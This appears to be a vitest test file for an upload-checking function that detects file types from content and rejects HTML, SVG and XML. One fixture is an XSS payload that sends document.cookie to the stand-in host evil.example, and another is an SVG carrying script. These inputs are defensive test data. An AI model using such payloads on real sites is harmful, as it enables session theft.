import { Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { samplePdf, samplePng } from '../test/sample-files.js';
import { bytesOf, countingSource, expectedBytes, readAll } from '../test/streams.js';
import { UnsupportedMediaTypeError, UploadTooLargeError } from './errors.js';
import { judgeUpload } from './judge-upload.js';
import { NEVER_ALLOWED_TYPES, SNIFF_BYTES } from './sniff-type.js';

const ALLOWED = ['image/png', 'image/jpeg', 'image/webp', 'application/pdf', 'text/plain'];
const MiB = 1024 * 1024;

describe('judgeUpload', () => {
  it('accepts an allowed type and replays the whole file, head first', async () => {
    const png = samplePng();
    for (const chunkBytes of [1, 7, SNIFF_BYTES - 1, SNIFF_BYTES, SNIFF_BYTES + 1, 64 * 1024]) {
      const source = countingSource(20_000, { chunkBytes, head: png });
      const judged = await judgeUpload(source.stream, { maxBytes: MiB, allowed: ALLOWED });
      expect(judged.type, `chunks of ${chunkBytes}`).toBe('image/png');
      expect((await readAll(judged.body)).equals(expectedBytes(20_000, png)), `chunks of ${chunkBytes}`).toBe(true);
    }
  });

  it('reads no more than the head before judging', async () => {
    const source = countingSource(10 * MiB, { chunkBytes: 1000, head: samplePdf() });
    const judged = await judgeUpload(source.stream, { maxBytes: 20 * MiB, allowed: ALLOWED });
    expect(judged.type).toBe('application/pdf');
    // The head, and what the stream buffers hold ahead of it.
    expect(source.pulled()).toBeLessThan(SNIFF_BYTES + 128 * 1024);
    judged.body.destroy();
  });

  it('accepts files shorter than the head, and text', async () => {
    const judged = await judgeUpload(bytesOf('Hello, support!'), { maxBytes: 100, allowed: ALLOWED });
    expect(judged.type).toBe('text/plain');
    expect((await readAll(judged.body)).toString()).toBe('Hello, support!');
  });

  it('refuses a type not allowed, naming it, and destroys the stream', async () => {
    const body = bytesOf(samplePdf());
    const error = await judgeUpload(body, { maxBytes: MiB, allowed: ['image/png'] }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(UnsupportedMediaTypeError);
    expect(error).toMatchObject({ code: 'unsupported_media_type', status: 415, type: 'application/pdf', details: { type: 'application/pdf' } });
    expect(body.destroyed).toBe(true);
  });

  it('refuses an HTML page named like a picture, even when text is allowed', async () => {
    // The name (`photo.png`) and the declared type never reach the judge: only the bytes do.
    const page = bytesOf('<!DOCTYPE html>\n<html><body><script>document.location="https://evil.example/?"+document.cookie</script>');
    await expect(judgeUpload(page, { maxBytes: MiB, allowed: ALLOWED })).rejects.toMatchObject({ type: 'text/html' });
  });

  it('never accepts HTML, SVG or XML, even when a caller lists them', async () => {
    const allowEverything = [...ALLOWED, ...NEVER_ALLOWED_TYPES];
    const cases = [
      ['<html><body>hi</body></html>', 'text/html'],
      ['<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', 'image/svg+xml'],
      ['<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg"/>', 'application/xml'],
    ];
    for (const [text, type] of cases) {
      const error = await judgeUpload(bytesOf(text!), { maxBytes: MiB, allowed: allowEverything }).catch((e: unknown) => e);
      expect(error, type).toBeInstanceOf(UnsupportedMediaTypeError);
      expect(error, type).toMatchObject({ type });
    }
  });

  it('refuses an empty file or unknown bytes as unknown', async () => {
    await expect(judgeUpload(bytesOf(''), { maxBytes: MiB, allowed: ALLOWED })).rejects.toMatchObject({ type: 'unknown' });
    const binary = Readable.from([Buffer.from([0x00, 0x01, 0x02, 0x03, 0x99, 0xff])], { objectMode: false });
    await expect(judgeUpload(binary, { maxBytes: MiB, allowed: ALLOWED })).rejects.toMatchObject({ code: 'unsupported_media_type', type: 'unknown' });
  });

  it('matches allowed types without regard to case', async () => {
    const judged = await judgeUpload(bytesOf(samplePng()), { maxBytes: MiB, allowed: ['IMAGE/PNG'] });
    expect(judged.type).toBe('image/png');
    judged.body.destroy();
  });

  it('refuses a file already past a limit smaller than the head', async () => {
    const body = bytesOf('x'.repeat(101));
    await expect(judgeUpload(body, { maxBytes: 100, allowed: ALLOWED })).rejects.toBeInstanceOf(UploadTooLargeError);
    expect(body.destroyed).toBe(true);
    const exact = await judgeUpload(bytesOf('x'.repeat(100)), { maxBytes: 100, allowed: ALLOWED });
    expect((await readAll(exact.body)).length).toBe(100);
  });

  it('passes on the stream’s error, in the head or after it', async () => {
    await expect(judgeUpload(countingSource(10_000, { failAfter: 1000, chunkBytes: 500 }).stream, { maxBytes: MiB, allowed: ALLOWED })).rejects.toThrow(
      'the connection was lost',
    );
    const later = countingSource(100_000, { failAfter: 50_000, chunkBytes: 5000, head: samplePng() });
    const judged = await judgeUpload(later.stream, { maxBytes: MiB, allowed: ALLOWED });
    await expect(readAll(judged.body)).rejects.toThrow('the connection was lost');
  });

  it('destroys the source when the replaying stream is destroyed', async () => {
    const source = countingSource(10 * MiB, { head: samplePng() });
    const judged = await judgeUpload(source.stream, { maxBytes: 20 * MiB, allowed: ALLOWED });
    judged.body.destroy();
    await new Promise((resolve) => judged.body.once('close', resolve));
    await new Promise((resolve) => setImmediate(resolve));
    expect(source.stream.destroyed).toBe(true);
  });
});
